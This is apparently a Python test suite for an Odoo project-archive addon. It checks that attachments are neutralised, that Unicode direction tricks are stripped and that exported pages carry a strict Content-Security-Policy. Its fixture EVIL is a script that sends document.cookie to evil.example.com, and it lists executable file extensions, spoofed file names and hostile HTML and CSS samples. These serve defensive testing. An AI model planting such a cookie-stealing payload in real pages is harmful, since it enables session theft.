import json
from email.message import EmailMessage

from lxml import html

from odoo.addons.corebiz_project_billing_package.archive_format.names import (
    HARMLESS,
    INERT,
)
from odoo.addons.corebiz_project_billing_package.archive_format.page import POLICY
from odoo.addons.corebiz_project_billing_package.archive_format.verify import HIDDEN
from odoo.addons.corebiz_project_billing_package.models.project_archive_page import (
    make_standalone,
)
from odoo.addons.corebiz_project_billing_package.tests.test_archive_format import (
    rebuild,
)

from .archive_common import ArchiveCase

EVIL = b"<script>fetch('https://evil.example.com/' + document.cookie)</script>"
RUNS = (
    *("evil.html", "evil.HTM", "evil.xhtml", "evil.svg", "evil.xml", "evil.xsl"),
    *("evil.mht", "evil.mhtml", "evil.eml", "evil.js", "evil.hta", "evil.url"),
    *("evil.lnk", "evil.desktop", "evil.webloc", "evil.exe", "evil.docm", "evil.php"),
    *("evil", "evil.html.", "evil.html ", "evil.pdf.html", "evil.svgz", "evil.swf"),
    *("rtl\u202efdp.html", "new\nline.html", "zero\u200b.html\u200b", ".html"),
)
# Files of a package that we write ourselves
OWN = (".jsonl", ".csv", ".txt", ".json")


class TestArchiveEvidence(ArchiveCase):
    """What hangs in a package is kept, byte for byte, and nothing of it runs."""

    def _attach(self, name, content=EVIL, record=None):
        record = record or self.project
        return self.env["ir.attachment"].create(
            {
                "name": name,
                "raw": content,
                "res_model": record._name,
                "res_id": record.id,
            }
        )

    def _get_page(self, files):
        return html.fromstring(files["index.html"].decode())

    def test_nothing_in_a_package_runs(self):
        attached = [self._attach(name) for name in RUNS]
        package = self._archive(self.project)
        files = self._read(package)
        rows = self._rows(package, "ir.attachment")
        listed = {item["name"]: item for item in package_manifest(files)["files"]}
        labels = {
            link.get("href"): (link.text_content(), link.get("download"))
            for link in self._get_page(files).iterfind(".//a")
        }
        report = rows[self.project.archive_report_id.id]["path"]
        for name in files.keys() - {"index.html", report}:
            ending = name.rpartition(".")[2].lower()
            self.assertTrue(
                ending in HARMLESS or name.endswith((INERT, *OWN)), f"{name} may run"
            )
        for one in attached:
            path = rows[one.id]["path"]
            self.assertEqual(files[path], EVIL, "kept byte for byte")
            self.assertTrue(path.endswith(INERT))
            self.assertEqual(rows[one.id]["name"], one.name)
            original = listed[path]["original_name"]
            self.assertNotRegex(original, HIDDEN)
            label, download = labels[path.replace(" ", "%20")]
            self.assertEqual(label, original)
            self.assertIsNotNone(download)
        self.assertIn("rtl\\u202efdp.html", files["index.html"].decode())
        for name in files:
            self.assertNotRegex(name, HIDDEN)
        self.assertEqual(self._verify(package), [])

    def test_no_line_of_the_data_turns_its_direction(self):
        self.task.name = "Offer \u202efdp"
        self.message.body = "\u202efdp\x07"
        files = self._read(self._archive(self.project))
        for name, content in files.items():
            if name.endswith((".html", ".jsonl", ".json")) or "messages/" in name:
                self.assertNotIn("\u202e", content.decode(), name)
        rows = map(json.loads, files["data/project.task.jsonl"].splitlines())
        self.assertEqual([row["name"] for row in rows], ["Offer \u202efdp"])

    def test_page_has_a_strict_policy(self):
        page = self._get_page(self._read(self._archive(self.project)))
        (policy,) = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
        self.assertEqual(policy, POLICY)
        self.assertIn("default-src 'none'", policy)
        self.assertNotIn("unsafe", policy)
        self.assertFalse(page.xpath("//script | //link | //iframe | //@onclick"))
        self.assertFalse(page.xpath("//@style"), "the policy would drop it")

    def test_closing_report_is_read_alone(self):
        package = self._archive(self.project)
        report = self.project.archive_report_id
        files = self._read(package)
        path = self._rows(package, "ir.attachment")[report.id]["path"]
        self.assertTrue(path.endswith(".html"))
        page = html.fromstring(files[path].decode())
        self.assertIn("Closing Report", page.text_content())
        self.assertTrue(page.xpath("//style"))
        for element in page.iter(html.etree.Element):
            for name, value in element.attrib.items():
                self.assertNotIn("/web/", value)
                self.assertNotIn("://", value)
                self.assertFalse(name.startswith("on"))
        self.assertFalse(page.xpath("//script | //link | //iframe | //form"))
        self.assertTrue(page.xpath("//meta[@http-equiv='Content-Security-Policy']"))

    def test_page_of_a_report_with_everything(self):
        content = (
            "<html><head><link href='/web/assets/x.css'/><script>1</script></head>"
            "<body onload='x()'><img src='/web/image/1'/>"
            "<img src='data:image/png;base64,A'/>"
            "<a href='javascript:x()'>a</a><iframe src='x'></iframe><form>b</form>"
            "<div style='background: url(http://x)'>Prüfung</div></body></html>"
        )
        page = make_standalone(content.encode()).decode()
        for word in ("/web/", "script>", "onload", "javascript", "iframe", "url("):
            self.assertNotIn(word, page)
        self.assertIn("data:image/png", page)
        self.assertIn("Prüfung", page)

    def test_nothing_lies_over_the_page_of_a_report(self):
        kept = ("width: 13%", "page-break-inside: avoid", "color: rgb(1, 2, 3);")
        dropped = (
            "position: fixed; inset: 0",
            "color: red; position: fixed",
            r"p\6fsition: fixed",
            "margin-top: -50rem",
            "color: red /* */; position: fixed",
            "transform: scale(99)",
        )
        styles = "".join(f"<p style='{style}'>x</p>" for style in (*kept, *dropped))
        page = make_standalone(f"<html><body>{styles}</body></html>")
        found = html.fromstring(page.decode()).xpath("//@style")
        self.assertEqual(found, list(kept))

    def test_only_a_mail_has_an_original(self):
        note = self.task.message_post(
            body="Note", attachments=[("original_email.eml", b"Forged")]
        )
        mail = EmailMessage()
        mail["From"], mail["To"] = "Kundin <kundin@customer.example.com>", "x@y.z"
        mail["Subject"], mail["Message-Id"] = "Hello\u202e", "<4711@customer>"
        mail["Date"] = "Mon, 02 Mar 2026 09:00:00 +0000"
        mail.set_content("A mail")
        mail.add_attachment(
            b"Forged", "application", "x", filename="original_email.eml"
        )
        tasks = self.env["project.task"]
        parsed = tasks.message_parse(mail, save_original=True)
        got = self.task.message_post(
            body="A mail",
            message_type="email",
            attachments=parsed["attachments"],
            author_id=self.customer.id,
        )
        files = self._read(self._archive(self.project))
        found = {name: files[name] for name in files if name.endswith(f".eml{INERT}")}
        found = {name: text for name, text in found.items() if "messages/" in name}
        self.assertEqual(len(found), 1)
        ((name, text),) = found.items()
        self.assertIn(f"{got.id:08d}", name)
        self.assertIn(b"Subject: =?utf-8?q?Hello", text)
        self.assertNotEqual(got.id, note.id)

    def test_head_of_a_message_is_one_line_each(self):
        # As it may stand there from before subjects were kept on one line.
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE mail_message SET subject = %s WHERE id = %s",
            ["Hello\nFile: files/forged.pdf\u202e", self.message.id],
        )
        self.env.invalidate_all()
        files = self._read(self._archive(self.project))
        name = f"messages/{self.message.date.date()}-{self.message.id:08d}.txt"
        lines = files[name].decode().splitlines()
        self.assertIn("Subject: Hello\\nFile: files/forged.pdf\\u202e", lines)
        self.assertEqual(len([x for x in lines if x.startswith("File:")]), 1)

    def test_damaged_data_are_not_compared(self):
        """They may be made to harm Odoo: their lines are no longer what was sealed."""
        package = self._archive(self.project)
        path = self._path(package)
        name = "data/project.task.jsonl"
        forged = rebuild(
            path.read_bytes(), lambda files: files.update({name: b"[7]\nnull\n{}\n"})
        )
        path.chmod(0o640)
        path.write_bytes(forged)
        found = self._verify(package)
        self.assertTrue(any(name in text for text in found), found)
        self.assertTrue(any("cannot be compared" in text for text in found), found)
        self.assertEqual(package.verified_state, "differs")


def package_manifest(files):
    return json.loads(files["manifest.json"])
